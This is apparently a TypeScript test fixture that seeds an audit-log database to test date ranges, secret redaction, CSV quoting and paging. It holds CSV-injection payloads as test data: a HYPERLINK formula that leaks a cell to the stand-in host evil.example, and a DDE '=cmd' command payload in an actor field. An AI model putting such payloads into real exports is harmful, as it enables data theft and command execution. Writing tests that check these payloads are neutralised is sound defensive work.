// A database with a known audit log for the viewer's tests: changes by signed-in users through
// the editor forms, by a factory, and rows appended directly with chosen times, actors and diffs.
import type { Hono } from 'hono';
import { appendAudit } from '../../src/audit/chain.ts';
import { inTransaction } from '../../src/audit/records.ts';
import type { Db } from '../../src/db/client.ts';
import { testApp } from './app.ts';
import { createTestDatabase, type TestDatabase } from './db.ts';
import { createdId, EditorClient } from './editor.ts';
import { makeIncident, met, uniq } from './factories.ts';

/** A title a spreadsheet would run as a formula. */
export const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click here")';
/** A summary with every character CSV must quote. */
export const AWKWARD_SUMMARY = 'Commas, "quotes" and\na new line.';
/** Secret values planted in a diff; none may ever be shown or exported. */
export const PLANTED_SECRETS = ['tok-PLANTED-1', 'sec-PLANTED-2', 'pw-PLANTED-3', 'hash-PLANTED-4'];
/** Rows appended by one actor: more than one page. */
export const BULK_ROWS = 60;

/** The log and the clients the tests look at it with. */
export interface AuditFixture {
  t: TestDatabase;
  app: Hono;
  admin: EditorClient;
  editor: EditorClient;
  incidents: { formula: string; plain: string; factory: string };
}

async function postIncident(
  ed: EditorClient,
  forceId: string,
  title: string,
  path = '/editor/incidents/new',
) {
  const res = await ed.post(path, {
    title,
    slug: uniq('incident'),
    summary: AWKWARD_SUMMARY,
    'occurred.precision': 'day',
    'occurred.on': '2024-08-01',
    forceId,
  });
  return createdId(res);
}

async function appendRows(db: Db): Promise<void> {
  await inTransaction(db, async (trx) => {
    // Either side of the UTC day 2025-03-02, to pin down the inclusive date range.
    for (const at of [
      '2025-03-01T23:59:59.999Z',
      '2025-03-02T00:00:00Z',
      '2025-03-02T23:59:59Z',
      '2025-03-03T00:00:00Z',
    ])
      await appendAudit(trx, {
        actor: 'test:dates',
        action: 'probe.date',
        entityType: 'probes',
        entityId: at,
        diff: { at },
        occurredAt: new Date(at),
      });
    await appendAudit(trx, {
      actor: 'test:secrets',
      action: 'probe.secret',
      entityType: 'probes',
      entityId: 'secrets',
      diff: {
        before: null,
        after: {
          api_token: 'tok-PLANTED-1',
          nested: { client_secret: 'sec-PLANTED-2' },
          password: 'pw-PLANTED-3',
        },
        code_hash: 'hash-PLANTED-4',
      },
    });
    // A cell of its own (not JSON) with every character CSV must quote.
    await appendAudit(trx, {
      actor: 'test:awkward',
      action: 'probe.awkward',
      entityType: 'probes',
      entityId: AWKWARD_SUMMARY,
      diff: {},
    });
    // Cells that are formulas in their own right, not only inside the diff's JSON.
    await appendAudit(trx, {
      actor: "=cmd|' /C calc'!A0",
      action: 'probe.formula',
      entityType: 'probes',
      entityId: '@SUM(1+1)',
      diff: { note: '+1' },
    });
    for (let i = 0; i < BULK_ROWS; i++)
      await appendAudit(trx, {
        actor: 'test:bulk',
        action: 'probe.bulk',
        entityType: 'probes',
        entityId: `bulk-${i}`,
        diff: { i },
      });
  });
}

/** Builds the fixture: four accounts, three incidents (one edited), and the appended rows. */
export async function auditFixture(): Promise<AuditFixture> {
  const t = await createTestDatabase();
  const app = testApp(t);
  const admin = await EditorClient.as(app, t.db, 'admin');
  const editor = await EditorClient.as(app, t.db, 'editor');
  const force = await met(t.db);
  const formula = await postIncident(editor, force.id, FORMULA_TITLE);
  const plain = await postIncident(editor, force.id, 'A plain incident');
  const edited = await editor.post(`/editor/incidents/${plain}/edit`, {
    title: 'A plain incident, retitled',
    slug: (
      await t.db.selectFrom('incidents').select('slug').where('id', '=', plain).executeTakeFirstOrThrow()
    ).slug,
    summary: AWKWARD_SUMMARY,
    'occurred.precision': 'day',
    'occurred.on': '2024-08-01',
    forceId: force.id,
  });
  if (edited.status !== 303) throw new Error(`edit failed: ${edited.status}`);
  const factory = (await inTransaction(t.db, (trx) => makeIncident(trx))).id;
  await appendRows(t.db);
  return { t, app, admin, editor, incidents: { formula, plain, factory } };
}

/** Every seq in the log matching a condition, newest first, straight from SQL. */
export async function seqsWhere(
  db: Db,
  where: (q: ReturnType<typeof base>) => ReturnType<typeof base>,
): Promise<number[]> {
  const rows = await where(base(db)).select('seq').orderBy('seq', 'desc').execute();
  return rows.map((r) => Number(r.seq));
}
const base = (db: Db) => db.selectFrom('audit_log');

/** The seqs listed on an audit page, in page order. */
export function seqsOn(html: string): number[] {
  return [...html.matchAll(/<th scope="row">(\d+)<\/th>/g)].map((m) => Number(m[1]));
}

/** A link's href by its rel, unescaped, or null. */
export function linkRel(html: string, rel: 'next' | 'prev'): string | null {
  const m = new RegExp(`<a href="([^"]+)" rel="${rel}"`).exec(html);
  return m ? m[1]!.replace(/&amp;/g, '&') : null;
}
